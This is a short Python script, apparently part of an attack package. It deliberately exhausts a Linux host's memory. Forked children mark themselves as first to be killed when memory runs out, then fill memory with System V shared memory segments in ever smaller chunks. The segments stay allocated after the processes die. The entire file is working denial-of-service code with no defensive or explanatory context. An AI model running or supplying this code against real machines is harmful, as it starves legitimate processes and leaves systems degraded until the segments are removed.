# Fills memory with shared segments, which stay when the process that made them has been ended.
import ctypes
import os

from attack import libc

libc.shmat.restype = ctypes.c_void_p
libc.shmdt.argtypes = [ctypes.c_void_p]


def fill(size):
    """In a process that is ended when no more fits."""
    child = os.fork()
    if child == 0:
        with open("/proc/self/oom_score_adj", "w") as file:
            file.write("1000")
        while True:
            number = libc.shmget(0, ctypes.c_size_t(size), 0o1600)
            if number < 0:
                os._exit(0)
            at = libc.shmat(number, None, 0)
            ctypes.memset(at, 1, size)
            libc.shmdt(at)
    os.waitpid(child, 0)


# With ever smaller pieces, for the last gap.
for size in (4 << 20, 256 << 10, 65536, 4096):
    fill(size)
